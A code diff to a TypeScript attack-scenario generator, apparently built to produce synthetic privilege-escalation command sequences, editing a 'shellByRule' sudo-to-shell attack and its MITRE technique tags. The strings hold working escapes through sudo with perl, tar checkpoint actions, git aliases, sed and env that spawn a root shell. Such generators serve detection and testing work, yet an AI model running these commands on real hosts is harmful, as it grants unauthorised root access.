@@ -1,5 +1,5 @@
 import type { Attack } from '../scenario.ts';
-import { maybe, quote, root, workFolder, write } from './ways.ts';
+import { look, maybe, quote, root, workFolder, write } from './ways.ts';
 
 /** A copy of a shell keeps the rights of root. */
 const suidShell: Attack = {
@@ -88,7 +88,7 @@ const shellByRule: Attack = {
   family: 'sudo-to-shell',
   techniques: ['T1548.003', 'T1059.004'],
   as: 'user',
-  needs: ['sudo', 'vim', 'python3', 'perl', 'tar', 'git', 'zip'],
+  needs: ['sudo', 'vim', 'python3', 'perl', 'git'],
   lines: (draw) => {
     const then = draw.pick([
       'id',
@@ -106,13 +106,14 @@ const shellByRule: Attack = {
       `sudo -n perl -e 'exec "/bin/sh", "-c", "${then.replaceAll('$', '')}";'`,
       `sudo -n tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec="sh -c '${then}'"`,
       `echo "${then}" | sudo -n env /bin/sh`,
-      `echo "${then}" | sudo -n git -c core.pager='sh -c "sh <&3"' -p help 3<&0 | head -5`,
+      `sudo -n git -c alias.s='!${then.split(';')[0]}' s`,
       `sudo -n sed -n '1e ${then.split(';')[0]}' /etc/hosts`,
       `echo "${then}" > ${file}; sudo -n xargs -a /dev/null sh ${file}`,
       `echo "${then}" | sudo -n nice /bin/bash`,
       `echo "${then}" | sudo -n timeout 20 sh`,
     ];
     return [
+      ...look(draw, draw.int(2, 3)),
       ...maybe(draw, 0.8, 'sudo -n -l'),
       ...draw.some(ways, draw.int(1, 4)),
       ...maybe(draw, 0.5, 'id', 'ls -la'),
